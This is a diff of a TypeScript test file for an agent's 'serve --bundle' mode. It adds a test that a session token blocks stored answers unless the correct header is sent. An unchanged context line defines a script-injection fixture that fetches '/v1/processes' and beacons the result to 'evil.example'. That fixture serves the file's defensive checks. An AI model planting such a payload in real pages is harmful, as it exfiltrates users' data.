@@ -119,8 +119,8 @@ const groups40 = '{a}'.repeat(40);
 const SCRIPT = '<script>fetch("/v1/processes").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example/",t))</script>';
 
 /** `serve --bundle` over `answers` in its own process; `ask` keeps every answer for the header checks. */
-async function serving(t: Test, name: string, answers: Stored[]) {
-  const agent = await startAgentProcess(['--bundle', await bundleOf(name, answers)]);
+async function serving(t: Test, name: string, answers: Stored[], env: NodeJS.ProcessEnv = {}) {
+  const agent = await startAgentProcess(['--bundle', await bundleOf(name, answers)], { env });
   t.teardown(() => agent.stop('SIGKILL'));
   const asked: [string, Answer][] = [];
   const ask = async (p: string, h?: Record<string, string>) => {
@@ -182,6 +182,20 @@ t.test('serve --bundle: the route document a bundle holds is data, never pattern
   const evil = await ask('/evil');
   t.equal(evil.status, 404);
   t.notOk(evil.body.includes('served'), 'the stored body is not served');
+  inert();
+});
+
+t.test('serve --bundle is the agent\'s own app: an attach session\'s secret guards it as it guards the live agent', async (t) => {
+  const token = 'S'.repeat(43);
+  const { ask, inert } = await serving(t, 'session', [{ url: '/v1/images', status: 200, contentType: 'application/json; charset=utf-8', body: '{"images":[]}' }], { NODETRUTH_SESSION_TOKEN: token });
+  const without = await ask('/v1/images');
+  t.equal(without.status, 401, 'a stored answer without the session header: 401');
+  t.notOk(without.body.includes('{"images":[]}'), 'and not the stored body');
+  t.equal((await ask('/v1/images', { 'x-nodetruth-session': 'x'.repeat(43) })).status, 401, 'a wrong token: 401');
+  const right = await ask('/v1/images', { 'x-nodetruth-session': token });
+  t.equal(right.status, 200);
+  t.equal(right.body, '{"images":[]}');
+  t.equal((await ask('/healthz')).status, 200, 'the readiness probe needs none');
   inert();
 });
 
